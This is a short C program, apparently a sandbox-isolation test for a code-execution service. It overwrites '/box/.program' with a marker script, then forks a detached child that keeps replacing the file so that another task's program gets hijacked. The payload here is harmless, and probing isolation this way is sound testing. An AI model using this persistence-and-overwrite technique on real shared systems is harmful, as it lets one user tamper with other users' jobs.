#include <fcntl.h>
#include <stdio.h>
#include <unistd.h>

static void replace(void)
{
    static const char script[] = "#!/bin/sh\necho ESCAPED: the program of another task\n";
    unlink("/box/.program");
    int fd = open("/box/.program", O_CREAT | O_WRONLY, 0755);
    if (write(fd, script, sizeof(script) - 1) < 0) {
        return;
    }
    close(fd);
}

int main(void)
{
    replace();
    if (fork() == 0) {
        setsid();
        for (;;) {
            replace();
            usleep(1000);
        }
    }
    usleep(50000);
    puts("replaced");
    return 0;
}
